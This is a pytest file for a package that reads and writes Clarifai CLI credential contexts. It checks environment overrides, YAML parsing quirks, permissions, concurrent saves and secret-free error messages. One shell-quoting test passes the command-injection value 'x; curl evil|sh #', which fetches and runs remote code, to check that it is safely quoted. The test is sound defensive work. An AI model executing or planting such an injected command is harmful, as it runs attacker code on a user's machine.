"""The file of Clarifai's command line: read as that reads it, saved so that it reads it."""

from __future__ import annotations

import os
import shlex
import stat
import subprocess
import sys
from pathlib import Path

import pytest
import trustme
import yaml
from support import CANARY

from clarifai_magic.api import PUBLIC_BASE
from clarifai_magic.credentials.bundle import Credentials, Provenance
from clarifai_magic.credentials.sources import cli_config, find_credentials
from clarifai_magic.credentials.sources.base import SourceContext
from clarifai_magic.errors import BaseURLError, NoCredentialsError, SourceError

ALONE = SourceContext()
DOCUMENT = {
    "current_context": "work",
    "contexts": {
        "home": {"CLARIFAI_PAT": "0" * 32, "CLARIFAI_USER_ID": "bob"},
        "work": {
            "CLARIFAI_API_BASE": "https://api.example.com",
            "CLARIFAI_PAT": CANARY,
            "CLARIFAI_USER_ID": "alice",
            "SOMETHING_ELSE": {"kept": True},
        },
        "env": {"CLARIFAI_PAT": "ENVVAR", "CLARIFAI_USER_ID": "carol"},
        "short": {"pat": CANARY, "user_id": "dave"},
        "empty": {},
    },
}


@pytest.fixture
def config():
    file = Path.home() / ".config" / "clarifai" / "config"
    file.parent.mkdir(parents=True)
    file.write_text(yaml.safe_dump(DOCUMENT))
    file.chmod(0o600)
    return file


@pytest.mark.usefixtures("config")
def test_the_current_context_is_taken_whole():
    assert find_credentials(around=ALONE).credentials == Credentials(
        CANARY,
        user_id="alice",
        base="https://api.example.com",
        source=Provenance("config", "work"),
    )


@pytest.mark.usefixtures("config")
def test_a_context_is_a_bundle_that_the_environment_does_not_mix_with(monkeypatch):
    monkeypatch.setenv("CLARIFAI_USER_ID", "mallory")
    assert find_credentials("config:home", ALONE).credentials.user_id == "bob"
    monkeypatch.setenv("CLARIFAI_PAT", "f" * 32)
    found = find_credentials(around=ALONE).credentials
    assert (found.key, found.user_id) == ("f" * 32, "mallory")


@pytest.mark.usefixtures("config")
@pytest.mark.parametrize("variable", ["CLARIFAI_API_BASE", "CLARIFAI_GRPC_BASE"])
def test_a_context_without_a_base_is_of_clarifais_own_api(monkeypatch, authority, variable):
    monkeypatch.setenv(variable, "https://mallory.example.com")
    monkeypatch.setenv("CLARIFAI_ROOT_CERTIFICATES_PATH", authority)
    home = find_credentials("config:home", ALONE).credentials
    # The environment's authority is that of the environment's host.
    assert (home.base, home.root_certificates) == (PUBLIC_BASE, "")
    monkeypatch.setenv(variable, "API.Clarifai.com")
    assert find_credentials("config:home", ALONE).credentials.root_certificates == authority
    monkeypatch.setenv(variable, "ftp://unusable.example.com")
    assert find_credentials("config:home", ALONE).credentials == home


@pytest.mark.usefixtures("config")
def test_what_is_asked_for_goes_before_what_a_context_says(authority):
    around = SourceContext(base="other.example.com", root_certificates=authority)
    for context in ("home", "work"):
        found = find_credentials(f"config:{context}", around).credentials
        assert (found.base, found.root_certificates) == ("https://other.example.com", authority)


@pytest.fixture
def authority(tmp_path):
    path = tmp_path / "ca.pem"
    trustme.CA().cert_pem.write_to_path(path)
    return str(path)


def test_a_contexts_unusable_base_is_told_with_its_place_and_its_ca_bundle_is_read(
    config, authority
):
    place = f"{{CLARIFAI_PAT: {CANARY}, CLARIFAI_API_BASE: 'ftp://x', root_certificates_path: "
    config.write_text(f"current_context: a\ncontexts:\n  a: {place}{authority}}}\n")
    with pytest.raises(BaseURLError, match="in the context 'a'"):
        find_credentials(around=ALONE)
    found = find_credentials(around=SourceContext(base="example.com")).credentials
    assert found.root_certificates == authority


def test_a_base_that_is_the_environments_is_held_to_what_it_may_be(config, monkeypatch):
    context = f"{{CLARIFAI_PAT: {CANARY}, CLARIFAI_API_BASE: ENVVAR}}"
    config.write_text(f"current_context: a\ncontexts: {{a: {context}}}\n")
    assert find_credentials(around=ALONE).credentials.base == PUBLIC_BASE
    monkeypatch.setenv("CLARIFAI_API_BASE", "https://private.example.com")
    assert find_credentials(around=ALONE).credentials.base == "https://private.example.com"
    monkeypatch.setenv("CLARIFAI_API_BASE", "http://private.example.com")
    with pytest.raises(BaseURLError, match="not encrypted"):
        find_credentials(around=ALONE)


@pytest.mark.parametrize("text", ["0123", "1e3", "yes", "2024-01-01", "0x1F", "1_000", "null2"])
def test_an_id_is_read_as_it_is_written(config, text):
    values = f"{{CLARIFAI_PAT: {CANARY}, CLARIFAI_USER_ID: {text}, CLARIFAI_APP_ID: null}}"
    config.write_text(f"current_context: 0123\ncontexts:\n  0123: {values}\n")
    found = find_credentials(around=ALONE).credentials
    assert (found.user_id, found.app_id) == (text, "")
    assert found.source == Provenance("config", "0123")


@pytest.mark.usefixtures("config")
def test_envvar_means_the_environment(monkeypatch):
    with pytest.raises(SourceError, match="no PAT in the context 'env'"):
        find_credentials("config:env", ALONE)
    monkeypatch.setenv("CLARIFAI_PAT", "f" * 32)
    found = find_credentials("config:env", ALONE).credentials
    assert (found.key, found.user_id) == ("f" * 32, "carol")


@pytest.mark.usefixtures("config")
def test_short_names_are_read_as_the_command_line_does():
    assert find_credentials("config:short", ALONE).credentials.user_id == "dave"


@pytest.mark.usefixtures("config")
@pytest.mark.parametrize(
    ("source", "words"),
    [
        ("config:nope", "no context 'nope' in ~/.config/clarifai/config .there: "),
        ("config:empty", "no PAT"),
    ],
)
def test_an_unknown_or_empty_context_is_told(source, words):
    with pytest.raises(SourceError, match=words):
        find_credentials(source, ALONE)


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (f"contexts: [\n  {CANARY}: {{", "not valid YAML, line"),
        ("just words", "has no contexts"),
        ("contexts: 7", "has no contexts"),
        ("", "has no contexts"),
        (b"\xff\xfe\x00", "not UTF-8 text"),
    ],
)
def test_a_broken_file_is_told_without_its_content_and_left_as_it_is(config, content, words):
    content = content if isinstance(content, bytes) else content.encode()
    config.write_bytes(content)
    with pytest.raises(NoCredentialsError) as caught:
        find_credentials(around=ALONE)
    assert words in str(caught.value)
    assert CANARY not in str(caught.value)
    with pytest.raises(SourceError, match="Not saved"):
        cli_config.save(CANARY, {}, "alice")
    assert config.read_bytes() == content


PAT = f"CLARIFAI_PAT: {CANARY}"


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (f"current_context: [work]\ncontexts: {{work: {{{PAT}}}}}", "current_context in"),
        (f"current_context: {{a: b}}\ncontexts: {{work: {{{PAT}}}}}", "current_context in"),
        (f"current_context: gone\ncontexts: {{~: {{{PAT}}}, 7: 7}}", "(there: None, 7)"),
        (f"contexts: {{work: {{{PAT}, OTHER: {'[' * 999}}}}}", "not valid YAML"),
    ],
)
def test_a_file_of_another_shape_is_told_without_its_content(shell, config, content, words):
    config.write_text(content)
    shell.run("%xmode Verbose")
    error = shell.fail("%clarifai_auth --no-input")
    assert error.startswith("NoCredentialsError: ")
    assert words in error
    assert "Traceback" not in error


@pytest.mark.parametrize("tag", ["int", "float", "bool", "timestamp"])
def test_a_value_is_text_whatever_tag_it_has(config, tag):
    config.write_text(f"current_context: a\ncontexts: {{a: {{pat: !!{tag} '{CANARY}'}}}}")
    assert find_credentials(around=ALONE).credentials.key == CANARY


def test_a_folder_in_the_files_place_is_told(config):
    config.unlink()
    config.mkdir()
    with pytest.raises(SourceError, match="is a folder"):
        find_credentials("config", ALONE)


@pytest.mark.skipif(os.name == "nt", reason="no such files")
def test_what_never_ends_is_not_read(config, tmp_path):
    config.unlink()
    os.mkfifo(tmp_path / "pipe")
    config.symlink_to(tmp_path / "pipe")
    program = "from clarifai_magic import find_credentials; find_credentials('config')"
    done = subprocess.run(
        [sys.executable, "-c", program], capture_output=True, text=True, check=False, timeout=180
    )
    assert "is not a regular file" in done.stderr


@pytest.fixture
def nobody():
    """Not root, who reads every file."""
    before = os.geteuid()
    if before == 0:
        os.seteuid(65534)
    yield
    os.seteuid(before)


def test_an_unreadable_file_is_told(config, request):
    config.chmod(0)
    request.getfixturevalue("nobody")
    with pytest.raises(SourceError, match="Permission denied"):
        find_credentials("config", ALONE)


def test_a_file_that_others_can_read_is_reported(config):
    assert find_credentials(around=ALONE).credentials.warning == ""
    config.chmod(0o644)
    assert "chmod 600" in find_credentials(around=ALONE).credentials.warning


def test_saving_adds_a_context_and_keeps_everything_else(config):
    config.chmod(0o644)
    cli_config.save(CANARY, {"CLARIFAI_USER_ID": "erin", "CLARIFAI_APP_ID": ""}, "erin")
    saved = yaml.safe_load(config.read_text())
    assert saved["contexts"].pop("erin") == {"CLARIFAI_PAT": CANARY, "CLARIFAI_USER_ID": "erin"}
    assert saved == DOCUMENT
    assert stat.S_IMODE(config.stat().st_mode) == 0o600
    assert list(config.parent.iterdir()) == [config]


def test_saving_updates_a_context_and_keeps_its_other_values(config):
    cli_config.save("f" * 32, {"CLARIFAI_USER_ID": "alice"}, "work")
    saved = yaml.safe_load(config.read_text())["contexts"]["work"]
    assert saved == {**DOCUMENT["contexts"]["work"], "CLARIFAI_PAT": "f" * 32}


WRITTEN = """\
# Mine; do not edit.
contexts:  # both
  work:
    CLARIFAI_USER_ID: 0123  # of a team
    CLARIFAI_PAT: '{old}'
    SINCE: 2024-01-01
  nested:
    note: kept
    env:
      CLARIFAI_PAT: "{old}"
      retries: 3
current_context: work
"""


def test_saving_leaves_the_rest_of_the_file_as_it_is_written(config):
    config.write_text(WRITTEN.format(old="0" * 32))
    cli_config.save(CANARY, {"CLARIFAI_API_BASE": PUBLIC_BASE}, "erin")
    cli_config.save(CANARY, {}, "work")
    cli_config.save(CANARY, {"CLARIFAI_USER_ID": "007"}, "nested")
    expected = WRITTEN.format(old=CANARY).replace("'", "").replace('"', "")
    expected = expected.replace("retries: 3\n", "retries: 3\n      CLARIFAI_USER_ID: '007'\n")
    erin = f"  erin:\n    CLARIFAI_API_BASE: {PUBLIC_BASE}\n    CLARIFAI_PAT: {CANARY}\n"
    head, tail = expected.split("current_context")
    assert config.read_text() == f"{head}{erin}current_context{tail}"
    assert find_credentials("config:nested", ALONE).credentials.user_id == "007"


@pytest.mark.parametrize(
    "text",
    [
        "contexts: {}",
        "contexts: {a: {CLARIFAI_PAT: old}}\n",
        "contexts:\n  a:\n    note: |\n      x\n",
        "current_context:\ncontexts:\n  a:\n    CLARIFAI_PAT:\n",
        "\ufeffcontexts:\n    'a': {}\n...\n",
    ],
)
def test_saving_finds_its_way_in_any_kind_of_yaml(config, text):
    config.write_text(text)
    cli_config.save(CANARY, {"CLARIFAI_USER_ID": "no"}, "a")
    found = find_credentials(around=ALONE).credentials
    assert (found.key, found.user_id) == (CANARY, "no")
    assert yaml.safe_load(config.read_text())["contexts"]["a"]["CLARIFAI_USER_ID"] == "no"


def test_saving_refuses_to_change_what_two_contexts_share(config):
    text = f"contexts:\n  a: &shared {{CLARIFAI_PAT: {'0' * 32}}}\n  b: *shared\n"
    config.write_text(text)
    with pytest.raises(SourceError, match="Not saved"):
        cli_config.save(CANARY, {}, "b")
    assert config.read_text() == text


def test_what_belonged_to_the_former_key_does_not_stay_with_the_new_one(config):
    config.write_text(
        f"current_context: a\ncontexts:\n  a:\n    pat: {'0' * 32}\n    CLARIFAI_APP_ID: old\n"
    )
    cli_config.save(CANARY, {"CLARIFAI_USER_ID": "bob", "CLARIFAI_APP_ID": ""}, "a")
    found = find_credentials(around=ALONE).credentials
    assert (found.key, found.user_id, found.app_id) == (CANARY, "bob", "")


@pytest.mark.slow
def test_of_many_who_save_at_the_same_time_none_is_lost(config):
    program = (
        "import sys\n"
        "from clarifai_magic.credentials.sources import cli_config\n"
        "sys.stdin.read()\n"
        f"cli_config.save('{CANARY}', {{}}, sys.argv[1])\n"
    )
    names = [f"user-{number}" for number in range(8)]
    savers = [
        subprocess.Popen([sys.executable, "-c", program, name], stdin=subprocess.PIPE)
        for name in names
    ]
    for saver in savers:
        saver.stdin.close()  # which lets it go
    assert [saver.wait() for saver in savers] == [0] * 8
    assert yaml.safe_load(config.read_text())["contexts"].keys() == {*DOCUMENT["contexts"], *names}
    assert list(config.parent.iterdir()) == [config]


def test_what_removes_a_context_is_quoted_for_the_shell(config):
    hostile = "x; curl evil|sh #"
    words = cli_config.save(CANARY, {}, hostile)
    assert shlex.split(words.split("`")[1])[-1] == hostile
    assert find_credentials(f"config:{hostile}", ALONE).credentials.kept.count("`") == 2


def test_nobody_without_a_home_is_told_so(monkeypatch):
    monkeypatch.delenv("HOME")
    monkeypatch.setattr(os, "getuid", lambda: 54321)
    with pytest.raises(SourceError, match="no home folder"):
        find_credentials("config", ALONE)
    with pytest.raises(SourceError, match="Not saved: this user has no home folder"):
        cli_config.save(CANARY, {}, "a")


def test_saving_where_nothing_was_makes_a_private_folder_and_a_current_context():
    words = cli_config.save(CANARY, {"CLARIFAI_USER_ID": "alice"}, "alice")
    file = cli_config.path()
    assert stat.S_IMODE(file.parent.stat().st_mode) == 0o700
    assert find_credentials(around=ALONE).credentials.user_id == "alice"
    assert "clarifai config delete-context alice" in words


def test_a_link_to_the_file_stays_a_link(config, tmp_path):
    elsewhere = tmp_path / "dotfiles"
    config.rename(elsewhere)
    config.symlink_to(elsewhere)
    cli_config.save(CANARY, {}, "erin")
    assert config.is_symlink()
    assert "erin" in elsewhere.read_text()


@pytest.mark.dev
def test_the_real_command_line_reads_what_was_saved(config):
    # It demands a user of every context that it lists.
    contexts = {name: DOCUMENT["contexts"][name] for name in ("home", "work")}
    config.write_text(yaml.safe_dump({**DOCUMENT, "contexts": contexts}))
    cli_config.save(CANARY, {"CLARIFAI_USER_ID": "erin"}, "erin")
    done = subprocess.run(
        [Path(sys.executable).parent / "clarifai", "--config", config, "config", "get-contexts"],
        capture_output=True,
        text=True,
        check=True,
    )
    assert "erin" in done.stdout
    assert "work" in done.stdout


@pytest.mark.slow
@pytest.mark.dev
@pytest.mark.parametrize(("key", "succeeds"), [("pat", True), ("revoked_key", False)])
def test_what_the_real_command_line_saves_at_login_signs_in(sandbox, shell, key, succeeds):
    done = subprocess.run(
        [
            *(Path(sys.executable).parent / "clarifai", "login", sandbox.base),
            *("--pat", getattr(sandbox.keys, key), "--user-id", "alice", "--context", "alice"),
        ],
        capture_output=True,
        text=True,
        check=False,
    )
    assert (done.returncode == 0) is succeeds
    if succeeds:
        signed_in = shell.run("%clarifai_auth --app-id main")
        assert "alice · PAT from the context alice of ~/.config/clarifai/config" in signed_in
    else:
        assert not cli_config.path().exists() or sandbox.keys.revoked_key not in (
            cli_config.path().read_text()
        )
